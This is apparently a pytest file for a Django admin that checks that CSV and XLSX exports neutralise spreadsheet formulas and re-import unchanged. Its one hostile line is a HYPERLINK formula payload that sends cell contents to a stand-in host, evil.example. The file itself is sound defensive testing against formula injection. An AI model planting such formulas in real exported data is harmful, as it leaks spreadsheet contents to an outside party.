"""Issue 16: what a careless admin or a hostile file can do through the admin
(exports carrying formulas, imports naming files, stale forms, lost citations)."""

import csv
import io

import openpyxl
import pytest
from django.utils import translation

from agencies.models import Body
from tests import factories

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def admin_export(client, fmt):
    fields = {f"bodyresource_{name}": "on" for name in ("slug", "name_vi", "note")}
    return client.post("/en/admin/agencies/body/export/", {"resource": "0", "format": fmt, **fields})


# -- item 2: admin exports never carry a live formula ---------------------------

@pytest.mark.django_db
def test_admin_csv_export_neutralises_formulas(admin_client):
    factories.BodyFactory(slug="ban-a", name_vi=FORMULA, note="+1 nữa")
    response = admin_export(admin_client, "0")
    assert response.status_code == 200
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["slug"] == "ban-a")
    assert row["name_vi"] == "'" + FORMULA
    assert row["note"] == "'+1 nữa"


@pytest.mark.django_db
def test_admin_xlsx_export_writes_formulas_as_text(admin_client):
    factories.BodyFactory(slug="ban-a", name_vi=FORMULA)
    response = admin_export(admin_client, "1")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value and "HYPERLINK" in str(cell.value)]
    assert len(cells) == 1
    assert cells[0].data_type == "s"  # text, not a formula ("f")
    assert cells[0].value == "'" + FORMULA


@pytest.mark.django_db
def test_a_neutralised_export_imports_back_unchanged(admin_client):
    from agencies.resources import BodyResource

    body = factories.BodyFactory(slug="ban-a", name_vi=FORMULA)
    exported = BodyResource().export(BodyResource().export_queryset())
    assert exported.dict[0]["name_vi"] == "'" + FORMULA
    result = BodyResource().import_data(exported, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    body.refresh_from_db()
    assert body.name_vi == FORMULA
